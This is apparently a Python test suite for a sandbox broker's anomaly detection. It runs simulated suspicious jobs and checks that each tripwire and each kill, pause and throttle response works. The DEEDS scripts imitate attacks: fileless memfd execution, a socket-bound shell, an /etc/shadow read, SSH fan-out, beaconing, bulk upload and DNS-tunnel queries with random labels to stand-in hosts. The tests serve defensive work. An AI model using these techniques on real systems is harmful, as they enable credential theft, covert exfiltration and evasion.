#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Suspicious behaviour is found in real jobs: a job for each tripwire, the responses, and profiles."""

import datetime
import json
import os
import subprocess
import tempfile

from api import SANDBOX, main
from broker import Broker, skip
from slowness import scaled
from peers import Peers
from runner import check, until

# Thresholds that a test reaches in a second.
CONFIG = """
pool: 2
anomalies:
  rules:
    fork-storm: {threshold: 40, window: 5s}
    mass-rename: {threshold: 100, window: 5s}
    mass-unlink: {threshold: 100, window: 5s, severity: critical}
    signal-storm: {threshold: 100, window: 2s}
    beaconing: {threshold: 50}
    large-upload: {threshold: 1024, window: 1m}
    dns-tunnel: {threshold: 300, window: 1m}
    rate-shift: {threshold: 20}
templates:
  - name: default
    network_max: {mode: allowlist, outbound: ["93.184.216.0/24"]}
  - {name: killing, anomalies: {rules: {unnamed-exec: {response: kill}}}}
  - {name: pausing, anomalies: {rules: {unnamed-exec: {response: pause}}}}
  - {name: throttling, anomalies: {rules: {unnamed-exec: {response: throttle}}}}
  - {name: calls, anomalies: {rules: {dangerous-syscall: {window: 1h, response: pause}}}}
  - {name: quiet, anomalies: {rules: {mass-rename: {response: log}}}}
  - {name: off, anomalies: {rules: {unnamed-exec: {enabled: false}}}}
  - {name: learnt, anomalies: {learn: 4}}
  # Of its own: on a slow machine honest work computes for a second, too.
  - {name: mining, anomalies: {rules: {mining: {threshold: 10, window: 1s}}}}
"""
RUNNING, PAUSED = 1, 2

MEMFD = """
import os, time
fd = os.memfd_create("x")
os.write(fd, open("/bin/sleep", "rb").read())
if os.fork() == 0:
    os.execve(fd, ["sleep", "0.1"], {})
os.wait()
time.sleep(0.3)
"""

CALL = "import ctypes\ncall = ctypes.CDLL(None).syscall\n"

# The script of a job, by the rule that finds it.
DEEDS = {
    "dangerous-syscall": CALL + "call(101, 16, 1, 0, 0)",  # ptrace
    "unnamed-exec": MEMFD,
    "remote-shell": """
import os, socket, time
theirs, ours = socket.socketpair()
if os.fork() == 0:
    [os.dup2(ours.fileno(), i) for i in range(3)]
    os.execv("/bin/sh", ["sh", "-c", "read line; echo $line"])
theirs.send(b"x\\n"); theirs.recv(9); os.wait(); time.sleep(0.1)
""",
    "fork-storm": """
import os, time
kids = []
for i in range(60):
    p = os.fork()
    if p == 0:
        time.sleep(3); os._exit(0)
    kids.append(p)
[os.waitpid(p, 0) for p in kids]
""",
    "mass-rename": """
import os, time
for i in range(150): open(f"f{i}", "w").close()
for i in range(150): os.rename(f"f{i}", f"g{i}")
time.sleep(0.3)
""",
    "mass-unlink": """
import os, time
for i in range(150): open(f"f{i}", "w").close()
for i in range(150): os.unlink(f"f{i}")
time.sleep(0.3)
""",
    "sensitive-path": "import os, time\ntry: open('/etc/shadow')\nexcept OSError: time.sleep(0.1)",
    "denied-fan-out": """
import socket, time
for i in range(9):
    s = socket.socket()
    try: s.connect((f"198.51.100.{i}", 22))
    except PermissionError: pass
time.sleep(0.1)
""",
    "beaconing": """
import socket, time
for i in range(9):
    s = socket.socket()
    try: s.connect(("203.0.113.9", 443))
    except PermissionError: pass
    time.sleep(0.25)
""",
    "mining": "import time\nend = time.time() + 20\nwhile time.process_time() < 2.5 and time.time() < end: pass",
    "signal-storm": """
import os, signal, time
p = os.fork()
if p == 0:
    signal.signal(10, lambda *a: None); time.sleep(5); os._exit(0)
time.sleep(0.1)
for i in range(300): os.kill(p, 10)
time.sleep(0.3); os.kill(p, 9); os.wait()
""",
    "io-uring-use": CALL + "call(425, 4, ctypes.create_string_buffer(256))",
    "oom": "import time\ntime.sleep(0.2)\nx = bytearray(1 << 30)\nfor i in range(0, len(x), 4096): x[i] = 1",
    "rate-shift": """
import select, socket, sys
sys.stdin.readline()  # quiet while the others work, which takes as much longer on a busy machine as the broker's looks do
while not select.select([sys.stdin], [], [], 0)[0]:
    s = socket.socket()
    try: s.connect(("203.0.113.10", 443))
    except PermissionError: s.close()
""",
    "large-upload": """
import socket, time
s = socket.create_connection(("93.184.216.34", 80))
s.setblocking(False)
sent = 0
while sent < 3 << 20:
    try: sent += s.send(b"x" * 65536)
    except BlockingIOError: pass
    try: s.recv(1 << 20)
    except BlockingIOError: pass
time.sleep(0.5)
""",
    "dns-tunnel": """
import os, socket, struct, time
for i in range(12):
    labels = [os.urandom(15).hex().encode(), b"t", b"example", b"org"]
    q = struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x for x in labels) + b"\\0\\0\\1\\0\\1"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(q, ("10.0.0.53", 53))
    try: s.recv(512)
    except OSError: pass
time.sleep(0.3)
""",
}
NETWORKED = ("large-upload", "dns-tunnel")
OPTIONS = {"oom": ("--memory", "64M"), "mining": ("--template", "mining"), "rate-shift": ("--timeout", "10m")}
BESIDE = ("rate-shift", "beaconing")  # these take their time while the others run


def findings(b, *args):
    code, all_ = b.json("anomalies", *args)
    check(code == 0, f"anomalies: {code}")
    return all_


def found(b, box):
    return {f["rule"] for f in findings(b, "--sandbox", box)}


def create(b, *args):
    r = b.cli("create", *args)
    check(r.returncode == 0, r.stderr)
    return r.stdout.decode().strip()


def python(b, box, code):
    return b.cli("exec", "-n", box, "--", "/usr/bin/python3", "-c", code)


def the_kernels_part_is_there(b, c):
    if "bpf-watch: no" in b.log() or "bpf-syscalls: no" in b.log():
        b.stop()
        skip("the programs for telemetry cannot be loaded here")


def what_a_stranger_may_not_see_is_refused(b, c):
    for args in (("profiles", "ls"), ("profiles", "export", "learnt"), ("profiles", "reset", "learnt"),
                 ("profiles", "freeze", "learnt"), ("profiles", "import", "learnt", "/etc/hostname"),
                 ("anomalies", "--tenant", "*"), ("anomalies", "--tenant", "uid:0")):
        r = b.stranger(*args)
        check(r.returncode == 77 and b"root" in r.stderr, f"{args}: {r.returncode} {r.stderr!r}")
    check(b.stranger("anomalies").returncode == 0, "but its own")


def wrong_questions_are_answered_with_the_reason(b, c):
    for args, word in ((("profiles", "ls", "nothing"), b"no template"), (("profiles", "freeze", "default"), b"does not learn"),
                       (("profiles", "reset", "learnt", "--learn", str((1 << 32) + 1)), b"4294967297 requested"),
                       (("profiles", "reset", "learnt", "--learn", "1000001"), b"1000001 is above the maximum of 1000000"),
                       (("profiles", "export", "default"), b"has no profile"), (("anomalies", "--severity", "loud"), b"one of"),
                       (("profiles", "import", "learnt", "/etc/hostname"), b"this file is not a profile"),
                       (("anomalies", "--rules", "--template", "nothing"), b"no template")):
        r = b.cli(*args)
        check(r.returncode != 0 and word in r.stderr, f"{args}: {r.returncode} {r.stderr!r}")


def honest_work_raises_nothing(b, c):
    box = create(b)
    r = b.cli("exec", "-n", box, "--", "/bin/bash", "-c",
              "seq 1 500 | sort -r | head -3; python3 -c 'import json, sqlite3; print(json.dumps([1]))'; "
              "mkdir d; for i in 1 2 3; do echo $i > d/$i; mv d/$i d/x$i; done; tar cz d | wc -c; rm -r d; bash -i </dev/null; sleep 0.3; "
              "python3 -c 'import socket, subprocess; socket.getaddrinfo(\"localhost\", 80); a, b = socket.socketpair(); "
              "b.shutdown(1) or subprocess.run([\"cat\"], stdin=a, stdout=a)'; sleep 0.1")
    check(r.returncode == 0, r.stderr)
    check(findings(b, "--sandbox", box) == [], findings(b, "--sandbox", box))
    b.cli("rm", box)


def each_tripwire_is_raised_by_a_job_that_does_it(b, c):
    boxes, jobs = {}, {}
    for rule in DEEDS:
        if rule in NETWORKED:
            policy = {"mode": 2, "outbound": [{"cidr": "93.184.216.0/24"}, {"domain": "allowed.example.net"}]}
            policy["outbound"] = policy["outbound"][:1]
            boxes[rule] = c.unary(SANDBOX + "Create", {"network": policy}).sandbox.id
        else:
            boxes[rule] = create(b, *OPTIONS.get(rule, ()))
    for rule, code in sorted(DEEDS.items(), key=lambda x: x[0] not in BESIDE):
        jobs[rule] = b.popen("exec", boxes[rule], "--", "/usr/bin/python3", "-c", code,
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        if rule not in BESIDE:
            jobs[rule].wait(60)
    jobs["rate-shift"].stdin.write(b"now\n")
    jobs["rate-shift"].stdin.flush()
    jobs["beaconing"].wait(60)
    missing = []
    for rule, job in jobs.items():
        try:
            until(lambda: rule in found(b, boxes[rule]), rule, 20)
        except AssertionError:
            missing.append((rule, found(b, boxes[rule])))
        said = job.communicate(timeout=60)[0]
        if missing and missing[-1][0] == rule:
            missing[-1] += (job.returncode, said[-300:])
    check(not missing, missing)
    one = next(f for f in findings(b, "--sandbox", boxes["mass-unlink"]) if f["rule"] == "mass-unlink")
    check(one["severity"] == "critical" and one["score"] >= one["threshold"] == 100, one)
    check(one["sandbox_id"] == boxes["mass-unlink"] and one["template"] == "default", one)
    one = next(f for f in findings(b, "--sandbox", boxes["unnamed-exec"]) if f["rule"] == "unnamed-exec")
    check(len(one["process_id"]) == 32 and one["response"] == "alert", one)
    everything = findings(b)
    check([f["sequence"] for f in everything] == sorted(f["sequence"] for f in everything), "oldest first")
    check({f["rule"] for f in findings(b, "--rule", "mining")} <= {"mining"}, "by rule")
    check(all(f["severity"] == "critical" for f in findings(b, "--severity", "critical")), "by severity")
    b.cli("rm", *boxes.values())


TALK = """
import socket
for host, port in (("93.184.216.34", 80), ("93.184.216.34", 81)):
    s = socket.create_connection((host, port))
    for i in range(50):
        s.send(b"x" * 1000)
        got = 0
        while got < 1000: got += len(s.recv(1000 - got))
    s.shutdown(socket.SHUT_WR)
    assert s.recv(1) == b""  # so no packet follows the job's end
    s.close()
"""


def bytes_and_packets_both_ways_and_connections_stand_in_the_record(b, c):
    policy = {"mode": 2, "outbound": [{"cidr": "93.184.216.0/24"}]}
    box = c.unary(SANDBOX + "Create", {"network": policy}).sandbox.id
    argv = ["/usr/bin/python3", "-c", TALK + "try: socket.create_connection(('203.0.113.1', 80))\nexcept PermissionError: pass"]
    job = c.finish(c.stream("Start", {"sandbox_id": box, "command": {"args": argv}}))
    check(job.result.exit_code == 0, job.output)
    n = job.result.record.network
    check(100000 <= n.out_bytes < 120000 and 100000 <= n.in_bytes < 120000, f"100 times 1,000 bytes, and heads: {n}")
    check(100 <= n.out_packets < 400 and 100 <= n.in_packets < 400, str(n))
    check((n.connects_allowed, n.connects_denied) == (2, 1), str(n))
    used = c.unary("/stockade.v1.TelemetryService/ListUsage", {"sandbox_id": box}).usage[0].network
    check((used.out_bytes, used.in_packets, used.connects_denied) == (n.out_bytes, n.in_packets, 1), f"{used} {n}")
    b.cli("rm", box)


def a_rule_that_is_off_is_not_raised(b, c):
    box = create(b, "--template", "off")
    python(b, box, MEMFD)
    check("unnamed-exec" not in found(b, box), found(b, box))
    b.cli("rm", box)


def an_alert_comes_at_once(b, c):
    """From the event in the kernel to a follower's line: the goal is 100 ms, a busy machine may take longer."""
    box = create(b)
    follower = b.popen("anomalies", "-f", "-o", "json", "--sandbox", box, stdout=subprocess.PIPE)
    try:
        python(b, box, DEEDS["sensitive-path"])
        check(json.loads(follower.stdout.readline())["rule"] == "sensitive-path", "it follows")
        job = b.popen("exec", "-n", box, "--", "/usr/bin/python3", "-c", MEMFD)
        f = json.loads(follower.stdout.readline())
        now = datetime.datetime.now(datetime.timezone.utc)
        job.wait(60)
        took = (now - datetime.datetime.fromisoformat(f["time"].replace("Z", "+00:00"))).total_seconds()
        print(f"     an alert took {took * 1000:.0f} ms", flush=True)
        check(f["rule"] == "unnamed-exec" and -0.1 < took < scaled(3), f"{took} {f}")
    finally:
        follower.kill()
        follower.communicate()
    b.cli("rm", box)


def kill_ends_the_sandbox_and_says_why(b, c):
    r = b.cli("run", "--template", "killing", "-n", "-o", "json", "--", "/usr/bin/python3", "-c", MEMFD + "time.sleep(30)")
    result = json.loads(r.stdout)
    check(result["outcome"] == "CANCELLED" and "unnamed-exec" in result["reason"], result)
    box = create(b, "--template", "killing")
    python(b, box, MEMFD + "time.sleep(30)")
    until(lambda: box not in b.cli("ls", "-q").stdout.decode(), "the sandbox is gone")


def noise_keeps_no_graver_rule_silent(b, c):
    noise = "import os\nfor i in range(300):\n    try: open(f'/tmp/.ssh/{i}')\n    except OSError: pass\n"
    r = b.cli("run", "--template", "killing", "-n", "-o", "json", "--", "/usr/bin/python3", "-c", noise + MEMFD + "time.sleep(30)")
    result = json.loads(r.stdout)
    check(result["outcome"] == "CANCELLED" and "unnamed-exec" in result["reason"], result)


def pause_stops_everything_in_it(b, c):
    box = create(b, "--template", "pausing")
    job = b.popen("exec", "-n", box, "--", "/usr/bin/python3", "-c", MEMFD + "time.sleep(0.5)", stdout=subprocess.PIPE)
    state = lambda: c.unary(SANDBOX + "Get", {"id": box}).sandbox.state
    until(lambda: state() == PAUSED, "it is paused")
    check(b.cli("resume", box).returncode == 0 and state() == RUNNING, "who looked at it may let it go on")
    check(job.wait(30) == 0, "and the job ends as if nothing had been")
    job.communicate()
    b.cli("rm", box)


def pause_is_repeated_for_continued_behaviour_and_in_the_next_job(b, c):
    """Within the window a finding of a job is not reported twice, but its response is carried out."""
    box = create(b, "--template", "calls")
    state = lambda: c.unary(SANDBOX + "Get", {"id": box}).sandbox.state
    twice = DEEDS["dangerous-syscall"] + "\nimport sys, time\nsys.stdin.readline()\ncall(101, 16, 1, 0, 0)\ntime.sleep(0.3)"
    for said in (1, 2):
        job = b.popen("exec", box, "--", "/usr/bin/python3", "-c", twice, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        until(lambda: state() == PAUSED, "it is paused")
        check(b.cli("resume", box).returncode == 0, "and goes on")
        job.stdin.write(b"go on\n")
        job.stdin.flush()
        until(lambda: state() == PAUSED, "it is paused again")
        check(b.cli("resume", box).returncode == 0, "and goes on")
        job.communicate(timeout=60)
        check(job.returncode == 0, f"the job ended with {job.returncode}")
        of_rule = findings(b, "--sandbox", box, "--rule", "dangerous-syscall")
        check(len(of_rule) == said == len({f["process_id"] for f in of_rule}), f"one of each job: {of_rule}")
    b.cli("rm", box)


def a_rate_stands_in_the_record_of_the_job_and_is_an_event(b, c):
    """mass-rename has the response `log` in this template, and is still reported."""
    box = create(b, "--template", "quiet")
    beside = b.popen("exec", box, "--", "/bin/cat", stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    code, job = b.json("exec", "-n", box, "--", "/usr/bin/python3", "-c", DEEDS["mass-rename"])
    beside.communicate(timeout=60)
    other = b.json("inspect")[1]
    mine = [f for f in job["record"]["findings"] if f["rule"] == "mass-rename"]
    check(code == 0 and len(mine) == 1 and job["record"]["findings_total"] >= 1, job["record"])
    one = findings(b, "--sandbox", box, "--rule", "mass-rename")
    check(len(one) == 1 and len(one[0]["process_id"]) == 32, f"it is one job's: {one}")
    told = [e for e in b.json("events", "--kind", "finding")[1] if e["sandbox_id"] == box]
    check([e["process_id"] for e in told if e["finding"]["rule"] == "mass-rename"] == [one[0]["process_id"]], f"and an event: {told}")
    check(other["id"] != one[0]["process_id"] and not other["record"]["findings"], f"of the job beside it there is none: {other}")
    b.cli("rm", box)


def throttle_leaves_a_tenth_of_the_cpu(b, c):
    box = create(b, "--template", "throttling", "--cpus", "1")
    python(b, box, MEMFD)
    until(lambda: c.unary(SANDBOX + "Get", {"id": box}).sandbox.limits.cpu_millis == 100, "100 millis")
    r = b.json("exec", "-n", box, "--", "/usr/bin/python3", "-c",
               "import time\nend = time.time() + 1\nwhile time.time() < end: pass")[1]
    used = (r["bill"]["cpu_user_ns"] or 0) + (r["bill"]["cpu_system_ns"] or 0)
    check(used < 0.6 * r["bill"]["wall_us"] * 1000, f"{used} ns of CPU in {r['bill']['wall_us']} us")
    b.cli("rm", box)


LEARNT = "for i in 1 2 3; do ls / | sort | head -2; done; cat /etc/hostname; sleep 0.05"


def profile(b, template="learnt"):
    return b.json("profiles", "ls", template)[1][0]


def bits(p):
    return sorted((x["path"], x["inode"], x["sequences"]) for x in p["executables"])


def a_profile_learns_freezes_and_tells_what_is_new(b, c):
    box = create(b, "--template", "learnt")
    for _ in range(4):
        check(b.cli("exec", "-n", box, "--", "/bin/bash", "-c", LEARNT).returncode == 0, "the job")
    until(lambda: profile(b)["state"] == "frozen", "frozen after 4 runs")
    p = profile(b)
    check(p["version"] == 1 and p["runs"] == 4, p)
    known = {x["path"]: x for x in p["executables"]}
    check(known["/usr/bin/ls"]["sequences"] > 10, known)
    before = len(findings(b, "--sandbox", box))
    check(b.cli("exec", "-n", box, "--", "/bin/bash", "-c", LEARNT).returncode == 0, "the same again")
    check(len(findings(b, "--sandbox", box)) == before == 0, findings(b, "--sandbox", box))
    # Known executables with unknown calls; and an unknown executable.
    b.cli("exec", "-n", box, "--", "/bin/bash", "-c",
          "kill -0 1; trap : USR1; kill -USR1 $$; exec 7<>x; ulimit -n 99; umask 7; read -t 0.01 x < /dev/tcp/127.0.0.1/9; cd /tmp; "
          "mapfile -t a < /etc/passwd; echo ${#a[@]}; wait; set -o monitor; sleep 0.01 & fg; ls -lRZ /usr/lib/python3* > y")
    b.cli("exec", "-n", box, "--", "/usr/bin/python3", "-c", "import time; time.sleep(0.1)")
    until(lambda: {"new-executable", "unseen-sequence", "new-refusal"} <= found(b, box), f"all rules, not {found(b, box)}")
    b.cli("rm", box)


def a_profile_is_kept_exported_and_imported(b, c):
    with tempfile.TemporaryDirectory() as folder:
        file = os.path.join(folder, "learnt.profile")
        check(b.cli("profiles", "export", "learnt", file).returncode == 0, "export")
        saved = f"{b.state}/profiles/learnt.profile"
        check(os.path.getsize(file) == os.path.getsize(saved), "what is kept is what is exported")
        was = profile(b)
        check(b.cli("profiles", "reset", "learnt").returncode == 0, "reset")
        check(profile(b)["state"] == "learning" and profile(b)["executables"] == [], profile(b))
        check(not os.path.exists(saved), "nothing is kept of it")
        with open(file, "rb") as f:
            good = f.read()
        for bad, why in ((good[:-1], b"sum is wrong"), (good[:40] + b"X" + good[41:], b"sum is wrong"), (b"", b""),
                         (b"STKPROF\1" + good[8:], b"another version"), (b"\xff" * 4000000, b""), (b"STKPROF\2" * 20, b"another version")):
            with open(file + ".bad", "wb") as f:
                f.write(bad)
            r = b.cli("profiles", "import", "learnt", file + ".bad")
            check(r.returncode != 0 and why in r.stderr and len(r.stderr) < 1000, f"{bad[:20]}: {r.returncode} {r.stderr}")
        check(profile(b)["state"] == "learning" and profile(b)["executables"] == [], "nothing of it was taken")
        r = b.cli("profiles", "import", "learnt", file)
        check(r.returncode == 0, r.stderr)
        now = profile(b)
        check(now["state"] == "frozen" and now["version"] == was["version"] + 1, now)
        check(bits(now) == bits(was), f"{bits(now)} {bits(was)}")
        check(r.stderr == b"" and now["learnt_from"] == "", f"its own: {r.stderr} {now}")
        r = b.cli("profiles", "import", "quiet", file)
        check(r.returncode == 0 and b"was learnt from jobs of template learnt, not of quiet" in r.stderr, r.stderr)
        check(profile(b, "quiet")["learnt_from"] == "learnt", profile(b, "quiet"))
        check(b.cli("profiles", "reset", "quiet").returncode == 0 and profile(b, "quiet")["learnt_from"] == "", "reset")
    was = profile(b)
    # By hand, of a template that does not learn by itself, whose ready sandboxes were made before.
    check(b.cli("profiles", "reset", "default", "--learn", "1000").returncode == 0, "learn")
    box = create(b)
    for _ in range(2):
        b.cli("exec", "-n", box, "--", "/bin/bash", "-c", LEARNT)
    until(lambda: profile(b, "default")["runs"] == 2, "two runs")
    check(b.cli("profiles", "freeze", "default").returncode == 0, "freeze")
    p = profile(b, "default")
    known = {x["path"]: x["sequences"] for x in p["executables"]}
    check(p["runs_wanted"] == 1000 and p["state"] == "frozen" and known["/usr/bin/ls"] > 10, p)
    b.cli("rm", box)
    check(b.stop() == 0, "the broker stops")
    b.start()
    check(profile(b)["state"] == "frozen" and bits(profile(b)) == bits(was), "and remembers it")


TESTS = [the_kernels_part_is_there, what_a_stranger_may_not_see_is_refused, wrong_questions_are_answered_with_the_reason,
         bytes_and_packets_both_ways_and_connections_stand_in_the_record,
         a_rule_that_is_off_is_not_raised, honest_work_raises_nothing, each_tripwire_is_raised_by_a_job_that_does_it,
         an_alert_comes_at_once, kill_ends_the_sandbox_and_says_why, noise_keeps_no_graver_rule_silent, pause_stops_everything_in_it,
         pause_is_repeated_for_continued_behaviour_and_in_the_next_job, a_rate_stands_in_the_record_of_the_job_and_is_an_event,
         throttle_leaves_a_tenth_of_the_cpu, a_profile_learns_freezes_and_tells_what_is_new,
         a_profile_is_kept_exported_and_imported]


if __name__ == "__main__":
    with Peers():
        main(Broker(config="socket: {mode: 0666}\n" + CONFIG), TESTS)
